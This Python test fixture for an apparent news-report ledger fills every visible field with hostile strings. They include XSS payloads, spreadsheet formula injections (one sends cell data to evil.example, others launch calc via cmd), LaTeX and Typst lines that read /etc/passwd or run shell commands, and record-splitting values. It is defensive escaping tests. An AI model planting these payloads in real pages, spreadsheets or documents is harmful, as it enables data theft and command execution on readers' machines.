"""Texts that try to be more than text, and a ledger that holds one of them everywhere."""

from __future__ import annotations

from datetime import UTC, datetime

from sitrep.records import (
    Analysis,
    Brief,
    Cite,
    Claim,
    Copy,
    Count,
    Difference,
    Finding,
    Flag,
    Forecast,
    Ledger,
    Line,
    Match,
    Origin,
    Problem,
    Report,
    Section,
    SectionKind,
    Side,
    Span,
    Story,
    TimeExpression,
)

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a template": "{{ 7 * 7 }}{% include 'x' %}<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)' x='",
    "comment": "--><svg onload=alert(1)><!--",
    "end of the style": "</style></title></textarea><script>alert(1)</script>",
    "end of the script": "</script><script>alert(1)</script>",
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "entity": "&lt;script&gt;&#x3c;img src=x onerror=alert(1)&#x3e;",
    "javascript address": "javascript:alert(1)//https://ok.example/",
    "data address": "data:text/html,<script>alert(1)</script>",
    "address with a tag": 'https://ok.example/"><script>alert(1)</script>',
    "nul": "before\x00<scr\x00ipt>alert(1)</scr\x00ipt>after",
    "terminal escapes": "\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b[2J\x9b31m",
    "turned round": "\u202egnidaer ruof \u2066isolate\u2069 \u202dover\u202c",
    "half a surrogate pair": "\ud800 and \udfff",
    "invisible tags": "hid\U000e0041den\u2028line\u2029paragraph",
    "right to left": "قال الوزير إن السد سليم، وقال الآخر لا",
    "emoji": "👩‍👩‍👧‍👦🇺🇳" * 40,
    "markdown": (
        "# head\n- item\n> quote *em* _em_ **b** `code` [a](javascript:alert(1)) ![i](x) | t |"
    ),
    "markdown reference": "[^1]: taken\n\n[x]: https://evil.example 'y'\n\n[x] ~~gone~~ $x$ ***",
    "bare addresses": "see www.evil.example and https://evil.example/a?b and mailto:a@evil.example",
    "rich markup": "[bold red]not bold[/bold red] [link=https://evil.example]no[/link] :smile:",
    "newlines": "a\r\nb\rc\n\n\n    code\n\tindented",
    "numbered": "1. not a list",
    "rule": "---",
    "empty": "",
    "spaces": "   \n  ",
    "table": "a | b\n--- | ---\n| x |",
    "formula": '=HYPERLINK("https://evil.example?"&A1,"open")',
    "formula after space": " \t@SUM(1+1)*cmd|' /C calc'!A0",
    "formula in full width": "＝1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "latex": r"\input{/etc/passwd} \write18{ls} }{ 100% & #1 a_b ~ x^2 $\alpha$ @misc{x,a={y}}",
    "typst": '#read("/etc/passwd") #import "@preview/evil:1.0.0": * *b* _i_ $x$ <note-1> @note-1',
    "end of a string in typst": '") + read("/etc/passwd") + ("',
    "ris record": "title\r\nER  - \r\nTY  - BOOK\r\nTI  - planted",
    "json": '"}], "planted": [{"a": "b"}',
}

KINDS: tuple[SectionKind, ...] = (
    "glance",
    "takeaways",
    "narrative",
    "disputed",
    "reactions",
    "quotes",
    "timeline",
    "numbers",
    "outlook",
    "new",
    "sources",
    "coverage",
)


def ledger_of(words: str, ids: str | None = None) -> Ledger:
    """A ledger with ``words`` in every field that a reader gets to see.

    Args:
        words: what tries to be more than text.
        ids: what ids are made of; ``words`` too when left out.
    """
    tag = words if ids is None else ids
    text = f"First line.\n{words}\nLast line."
    start, end = 12, 12 + max(1, len(words))
    one = Report(
        id=tag or "r1",
        text=text,
        path=words,
        url=words,
        publisher=words,
        title=words,
        byline=words,
        published=datetime(2031, 5, 4, tzinfo=UTC),
        language=words,
    )
    other = Report(id="r2", text=text, url=words, path=words, title=words)
    claims = tuple(
        Claim(
            id=f"c{at}{tag}",
            report=report.id,
            start=start,
            end=end,
            kind="forecast",
            attribution=None,
            certainty="likely",
            polarity="positive",
            times=(f"t{tag}",),
        )
        for at, report in enumerate((one, other))
    )
    cites = tuple(Cite(c.id, c.report, start, end) for c in claims)
    finding = Finding(
        id=f"f{tag}",
        story=f"s{tag}",
        text=words,
        status="disputed",
        importance=1.0,
        claims=tuple(c.id for c in claims),
        representative=claims[0].id,
        k_report=Count(1, 2),
        k_origin=Count(1, 20),
        sides=tuple(Side((c.id,), Count(1, 1), words) for c in claims),
        differences=(Difference(words, words, (claims[0].id,)),),
    )
    line = Line(words, cites, "disputed", Count(1, 20), words, words, finding.id)
    return Ledger(
        version=words,
        created=datetime(2031, 5, 6, tzinfo=UTC),
        reports=(one, other),
        analyses=(
            Analysis(
                one.id,
                times=tuple(
                    TimeExpression(f"t{tag}", one.id, start, end, "DATE", words, at, at)
                    for at in (datetime(2031, 5, 3, tzinfo=UTC),)
                ),
                flags=(Flag(one.id, start - 3, end + 2, words, words),),
            ),
        ),
        stories=(Story(finding.story, words, (one.id, other.id)),),
        claims=claims,
        forecasts=(Forecast("fc", claims[0].id, words, "likely", Span(start, end)),),
        copies=(
            Copy(
                other.id,
                one.id,
                "rewrite",
                0.5,
                0.5,
                (Match(Span(start, end), Span(start, end)),),
                (words,),
            ),
        ),
        origins=(Origin("o1", finding.story, (one.id, other.id)),),
        findings=(finding,),
        briefs=(
            Brief(words, tuple(Section(kind, words, (line, line), words) for kind in KINDS), line),
            Brief(words, (Section("glance", words, (line,)),)),
        ),
        problems=(Problem(words, words, one.id, words, 0, 3), Problem(words, words, None, words)),
    )
